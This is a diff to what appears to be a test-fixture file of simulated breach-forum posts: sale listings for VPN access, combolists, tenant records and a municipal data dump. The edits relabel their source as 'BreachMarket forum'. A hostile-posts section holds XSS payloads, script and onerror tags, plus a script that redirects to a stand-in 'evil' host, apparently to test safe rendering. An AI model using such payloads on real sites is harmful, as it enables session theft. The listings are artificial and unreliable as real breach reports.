@@ -447,10 +447,11 @@ SINGLE_POSTS = [
         "Pulse Secure VPN + RDP, domain user. 3,500 USD.",
     ),
     dict(
-        ch="xf",
-        id="threads/combolist-latam.9977",
+        ch="forum",
+        id="bf-20968",
         date="2026-10-30T19:00:00Z",
         author="logsmith",
+        source="BreachMarket forum",
         title="LATAM combolist 7M mail:pass (private)",
         text="Private combolist, 7M lines email:password, Mexico/Colombia/Chile providers. 150$.",
     ),
@@ -464,10 +465,11 @@ SINGLE_POSTS = [
         "выручка около 300 млн долларов. Цена 6000$.",
     ),
     dict(
-        ch="mybb",
-        id="thread-7866.html",
+        ch="forum",
+        id="bf-20788",
         date="2026-11-13T22:22:00Z",
         author="anon_seller",
+        source="BreachMarket forum",
         title="Australian real estate agency - tenant applications 70k",
         text="Tenant application files from Harbourline Realty (Sydney, Australia): 70k applications with "
         "driver's licence and passport scans, payslips. AUD 4,000.",
@@ -545,10 +547,11 @@ SINGLE_POSTS = [
         text="Situs Pemerintah Kabupaten Lembah Hijau berhasil di-deface oleh Garuda Cyber Team. #deface #indonesia",
     ),
     dict(
-        ch="phpbb",
-        id="viewtopic.php?t=4540",
+        ch="forum",
+        id="bf-20812",
         date="2026-11-18T20:00:00Z",
         author="Corbeau",
+        source="BreachMarket forum",
         title="Dump gratuit: Mairie de Saint-Aubin-des-Prés",
         text="Dump gratuit de la Mairie de Saint-Aubin-des-Prés (France) : 6 500 habitants, état civil, "
         "adresses, numéros de téléphone. Lien Mega dans le sujet.",
@@ -561,7 +564,7 @@ HOSTILE_POSTS = [
         ch="forum",
         id="bf-20999",
         date="2026-11-19T23:59:00Z",
-        author="<script>alert('x')</script>",
+        author="<script>alert(1)</script>",
         source="BreachMarket forum",
         title="<img src=x onerror=alert(1)> Selling DB of Quillfeather Books",
         text="Selling Quillfeather Books (UK) customer DB, 12k rows <script>document.location='https://evil."
